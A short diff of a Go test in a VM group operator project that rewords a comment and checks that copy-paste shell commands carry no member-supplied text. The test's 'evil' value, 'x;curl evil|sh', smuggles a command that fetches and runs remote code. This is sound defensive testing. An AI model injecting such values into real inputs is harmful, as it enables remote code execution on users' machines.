@@ -11,7 +11,7 @@ import (
 	"github.com/codeconnect/vmgroup-operator/config/crd"
 )
 
-// TestNoCommandHasTextOfTheMember: who reads it copies it into a shell of the hub.
+// TestNoCommandHasTextOfTheMember: users copy the commands into a shell of the hub.
 func TestNoCommandHasTextOfTheMember(t *testing.T) {
 	const plain, evil = "6d1b1c5e-0000-4000-8000-000000000001", "x;curl evil|sh"
 	terminating := func(name, uid string) string {
